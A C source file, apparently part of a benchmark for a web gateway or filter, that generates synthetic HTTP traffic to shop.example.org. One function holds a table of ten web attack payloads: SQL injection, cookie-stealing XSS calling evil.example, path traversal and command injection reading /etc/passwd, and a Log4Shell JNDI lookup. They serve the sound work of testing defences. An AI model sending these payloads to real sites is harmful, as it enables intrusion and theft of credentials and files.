// SPDX-License-Identifier: Apache-2.0
/* See requests.h. */
#include "tests/bench/gate/requests.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/error.h"

enum { LIST_MEMORY_MAX = 64 << 20, FORM_SIZE = 1950, JSON_SIZE = 8000, FILE_SIZE = 1 << 20 };

static const char *const words[] = { "bamboo", "harbour", "rice", "lotus", "market", "bicycle", "lantern", "evening",
	"village", "river", "mountain", "teacher", "pepper", "coffee", "garden", "boat", "morning", "blue", "silk",
	"ceramic", "paper", "station", "island", "summer", "friend", "kitchen", "window", "letter", "quiet", "yellow" };

static const char *const agents[] = {
	"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
	"Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
	"Mobile/15E148 Safari/604.1",
};

/* One request in the making. */
struct maker {
	struct request_list *list;
	struct request *request;
	uint64_t state; /* of the random numbers, seeded anew for each request */
	bool failed;
};

static uint64_t next_random(struct maker *maker)
{
	uint64_t z = maker->state += UINT64_C(0x9e3779b97f4a7c15);

	z = (z ^ z >> 30) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ z >> 27) * UINT64_C(0x94d049bb133111eb);
	return z ^ z >> 31;
}

static unsigned int between(struct maker *maker, unsigned int least, unsigned int most)
{
	return least + (unsigned int)(next_random(maker) % (most - least + 1));
}

static const char *word(struct maker *maker)
{
	return words[next_random(maker) % ARRAY_COUNT(words)];
}

static const char *keep(struct maker *maker, const char *text)
{
	char *kept = arena_strdup(&maker->list->arena, text);

	maker->failed |= !kept;
	return kept ? kept : "";
}

static void keep_body(struct maker *maker, const char *text, size_t size)
{
	void *kept = arena_dup(&maker->list->arena, bytes_of(text, size));

	maker->failed |= !kept;
	maker->request->body = kept ? bytes_of(kept, size) : (struct bytes){ 0 };
}

static void header(struct maker *maker, const char *name, const char *format, ...)
	__attribute__((format(printf, 3, 4)));

static void header(struct maker *maker, const char *name, const char *format, ...)
{
	struct request *request = maker->request;
	char value[512];
	va_list arguments;

	va_start(arguments, format);
	vsnprintf(value, sizeof(value), format, arguments);
	va_end(arguments);
	if (request->header_count == REQUEST_HEADERS_MAX) {
		maker->failed = true;
		return;
	}
	request->headers[request->header_count++] = (struct request_header){ name, keep(maker, value) };
}

/* What a browser sends with everything. */
static void common_headers(struct maker *maker)
{
	header(maker, "Host", "shop.example.org");
	header(maker, "User-Agent", "%s", agents[next_random(maker) % ARRAY_COUNT(agents)]);
	header(maker, "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
	header(maker, "Accept-Language", "vi-VN,vi;q=0.9,en;q=0.7");
	header(maker, "Accept-Encoding", "gzip, deflate");
	header(maker, "Referer", "https://shop.example.org/catalogue/%s", word(maker));
	header(maker, "Cookie", "sid=%016llx%016llx; theme=light; lang=vi", (unsigned long long)next_random(maker),
		(unsigned long long)next_random(maker));
	header(maker, "Sec-Fetch-Site", "same-origin");
	header(maker, "Sec-Fetch-Mode", "navigate");
}

static void body_headers(struct maker *maker, const char *type)
{
	header(maker, "Content-Type", "%s", type);
	header(maker, "Content-Length", "%zu", maker->request->body.size);
}

static void put_words(struct maker *maker, FILE *out, unsigned int count, char between_words)
{
	for (unsigned int i = 0; i < count; i++) {
		if (i != 0)
			putc(between_words, out);
		fputs(word(maker), out);
	}
}

static void make_static(struct maker *maker, FILE *out, unsigned int number)
{
	static const char *const kinds[] = { "css", "js", "png", "svg", "woff2" };
	const char *kind = kinds[next_random(maker) % ARRAY_COUNT(kinds)];
	char target[256];

	(void)out;
	(void)number;
	snprintf(target, sizeof(target), "/assets/%s/%s.%08x.%s", kind, word(maker), (unsigned int)next_random(maker),
		kind);
	maker->request->method = "GET";
	maker->request->target = keep(maker, target);
	common_headers(maker);
}

static void make_query(struct maker *maker, FILE *out, unsigned int number)
{
	static const char *const keys[] = { "sort", "category", "colour", "size", "brand", "region" };
	unsigned int first = between(maker, 0, ARRAY_COUNT(keys) - 1), count = between(maker, 2, ARRAY_COUNT(keys));
	char target[1024];
	char *text = NULL;
	size_t size;
	FILE *query = open_memstream(&text, &size);

	(void)out;
	(void)number;
	if (!query) {
		maker->failed = true;
		return;
	}
	put_words(maker, query, between(maker, 2, 5), '+');
	fprintf(query, "&page=%u", between(maker, 1, 40));
	for (unsigned int i = 0; i < count; i++)
		fprintf(query, "&%s=%s", keys[(first + i) % ARRAY_COUNT(keys)], word(maker));
	fclose(query);
	snprintf(target, sizeof(target), "/catalogue/search?q=%s", text);
	free(text);
	maker->request->method = "GET";
	maker->request->target = keep(maker, target);
	common_headers(maker);
}

static void make_form(struct maker *maker, FILE *out, unsigned int number)
{
	(void)number;
	for (unsigned int i = 0; ftell(out) < FORM_SIZE; i++) {
		fprintf(out, "%sfield_%u=", i ? "&" : "", i);
		put_words(maker, out, between(maker, 2, 12), '+');
	}
	maker->request->method = "POST";
	maker->request->target = "/account/profile";
	common_headers(maker);
}

static void make_json(struct maker *maker, FILE *out, unsigned int number)
{
	(void)number;
	fprintf(out, "{\"order\": {\"id\": %u, \"currency\": \"VND\"}, \"items\": [", between(maker, 1, 1000000));
	for (unsigned int i = 0; ftell(out) < JSON_SIZE; i++) {
		fprintf(out, "%s{\"sku\": \"SKU%06u\", \"name\": \"", i ? ", " : "", between(maker, 0, 999999));
		put_words(maker, out, 4, ' ');
		fprintf(out, "\", \"quantity\": %u, \"price\": %u.%02u, \"note\": \"", between(maker, 1, 9),
			between(maker, 1, 999), between(maker, 0, 99));
		put_words(maker, out, between(maker, 3, 9), ' ');
		fprintf(out, "\", \"options\": {\"colour\": \"%s\", \"gift\": %s}}", word(maker),
			next_random(maker) & 1 ? "true" : "false");
	}
	fputs("]}", out);
	maker->request->method = "POST";
	maker->request->target = "/api/v1/orders";
	common_headers(maker);
}

static void make_upload(struct maker *maker, FILE *out, unsigned int number)
{
	static const char *const fields[] = { "title", "album" };
	char mark[32];
	char type[96];

	snprintf(mark, sizeof(mark), "----part%016llx", (unsigned long long)next_random(maker));
	for (size_t i = 0; i < ARRAY_COUNT(fields); i++) {
		fprintf(out, "--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n", mark, fields[i]);
		put_words(maker, out, 3, ' ');
		fputs("\r\n", out);
	}
	fprintf(out,
		"--%s\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"photo%u.jpg\"\r\n"
		"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0",
		mark, number);
	for (size_t i = 0; i < FILE_SIZE / sizeof(uint64_t); i++) {
		uint64_t random = next_random(maker);

		fwrite(&random, sizeof(random), 1, out);
	}
	fprintf(out, "\r\n--%s--\r\n", mark);
	snprintf(type, sizeof(type), "multipart/form-data; boundary=%s", mark);
	maker->request->method = "POST";
	maker->request->target = "/photos/upload";
	common_headers(maker);
	header(maker, "Content-Type", "%s", type);
}

static void make_attack(struct maker *maker, FILE *out, unsigned int number)
{
	static const struct {
		const char *method, *target, *header, *value, *body;
	} attacks[] = {
		{ "GET", "/item?id=1%27+UNION+SELECT+login%2Chash+FROM+accounts--+-", NULL, NULL, "" },
		{ "GET", "/item?id=1+AND+SLEEP%285%29", NULL, NULL, "" },
		{ "GET",
			"/search?q=%3Cscript%3Elocation%3D%27%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E",
			NULL, NULL, "" },
		{ "GET", "/page?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", NULL, NULL, "" },
		{ "GET", "/ping?host=192.0.2.1%3B+cat+%2Fetc%2Fpasswd", NULL, NULL, "" },
		{ "GET", "/", "X-Api-Version", "${jndi:ldap://evil.example/x}", "" },
		{ "POST", "/comment", "Content-Type", "application/x-www-form-urlencoded",
			"text=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E&name=lan" },
		{ "POST", "/api/v1/login", "Content-Type", "application/json",
			"{\"user\":\"admin' or 1=1-- -\",\"password\":\"x\"}" },
		{ "GET", "/index.php?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex", NULL, NULL,
			"" },
		{ "GET", "/.git/config", NULL, NULL, "" },
	};
	size_t which = number % ARRAY_COUNT(attacks);

	maker->request->method = attacks[which].method;
	maker->request->target = attacks[which].target;
	fputs(attacks[which].body, out);
	common_headers(maker);
	if (attacks[which].header)
		header(maker, attacks[which].header, "%s", attacks[which].value);
}

static const struct {
	const char *name;
	unsigned int variants;
	void (*make)(struct maker *maker, FILE *out, unsigned int number); /* writes the body to 'out' */
	const char *type; /* of the body, when 'make' does not say it */
} classes[REQUEST_CLASS_COUNT] = {
	[REQUEST_STATIC] = { "static", 40, make_static, NULL },
	[REQUEST_QUERY] = { "query", 40, make_query, NULL },
	[REQUEST_FORM] = { "form", 20, make_form, "application/x-www-form-urlencoded" },
	[REQUEST_JSON] = { "json", 20, make_json, "application/json" },
	[REQUEST_UPLOAD] = { "upload", 4, make_upload, NULL },
	[REQUEST_ATTACK] = { "attack", 10, make_attack, NULL },
};

const char *request_class_name(enum request_class which)
{
	return classes[which].name;
}

static void make_request(struct maker *maker, enum request_class which, unsigned int number)
{
	char *text = NULL;
	size_t size = 0;
	FILE *out = open_memstream(&text, &size);

	if (!out) {
		maker->failed = true;
		return;
	}
	classes[which].make(maker, out, number);
	fclose(out);
	if (size != 0)
		keep_body(maker, text, size);
	free(text);
	if (size == 0)
		return;
	if (classes[which].type)
		body_headers(maker, classes[which].type);
	else
		header(maker, "Content-Length", "%zu", size);
}

int request_list_init(struct request_list *list, enum request_class which)
{
	*list = (struct request_list){ .count = classes[which].variants, .class = which, .renewed = 1 };
	arena_init(&list->arena, LIST_MEMORY_MAX);
	for (unsigned int i = 0; i < list->count; i++) {
		struct maker maker = { .list = list, .request = &list->items[i], .state = which * 1000U + i };

		make_request(&maker, which, i);
		if (maker.failed)
			return LUYTRE_E_NOMEM;
	}
	return 0;
}

void request_list_done(struct request_list *list)
{
	arena_done(&list->arena);
}

static uint8_t renew_byte(struct request_list *list, uint8_t byte)
{
	list->renewed = list->renewed * UINT64_C(6364136223846793005) + 1;
	if (byte >= 'a' && byte <= 'z')
		return (uint8_t)('a' + (list->renewed >> 33) % 26);
	if (byte >= '0' && byte <= '9')
		return (uint8_t)('1' + (list->renewed >> 33) % 9);
	return byte;
}

/* Values behind '=', or JSON's strings behind ':'; what is escaped stays. Made in the list's arena, so it may be written. */
static void renew_text(struct request_list *list, const void *text, size_t size, bool json)
{
	uint8_t *bytes = (uint8_t *)(uintptr_t)text;
	uint8_t before = 0; /* not counting blanks */
	bool value = false;

	for (size_t i = 0; i < size; i++) {
		if (json && bytes[i] == '"')
			value = !value && before == ':';
		else if (!json && bytes[i] == '=')
			value = true;
		else if (!json && strchr("&; ", bytes[i]))
			value = false;
		else if (bytes[i] == '%' || bytes[i] == '\\')
			i += bytes[i] == '%' ? 2 : i + 1 < size && bytes[i + 1] == 'u' ? 5 : 1;
		else if (value)
			bytes[i] = renew_byte(list, bytes[i]);
		if (i < size && bytes[i] != ' ')
			before = bytes[i];
	}
}

void request_renew(struct request_list *list, size_t index)
{
	const struct request *request = &list->items[index % list->count];

	if (list->class == REQUEST_ATTACK || list->class == REQUEST_UPLOAD)
		return;
	if (list->class == REQUEST_QUERY)
		renew_text(list, request->target, strlen(request->target), false);
	for (size_t i = 0; i < request->header_count; i++) {
		if (strcmp(request->headers[i].name, "Cookie") == 0)
			renew_text(list, request->headers[i].value, strlen(request->headers[i].value), false);
	}
	renew_text(list, request->body.ptr, request->body.size, list->class == REQUEST_JSON);
}

struct bytes request_wire(struct request_list *list, const struct request *request)
{
	char *text = NULL;
	size_t size = 0;
	FILE *out = open_memstream(&text, &size);
	void *kept = NULL;

	if (!out)
		return (struct bytes){ 0 };
	fprintf(out, "%s %s HTTP/1.1\r\n", request->method, request->target);
	for (size_t i = 0; i < request->header_count; i++)
		fprintf(out, "%s: %s\r\n", request->headers[i].name, request->headers[i].value);
	fputs("\r\n", out);
	if (request->body.size != 0)
		fwrite(request->body.ptr, 1, request->body.size, out);
	if (fclose(out) == 0)
		kept = arena_dup(&list->arena, bytes_of(text, size));
	free(text);
	return kept ? bytes_of(kept, size) : (struct bytes){ 0 };
}
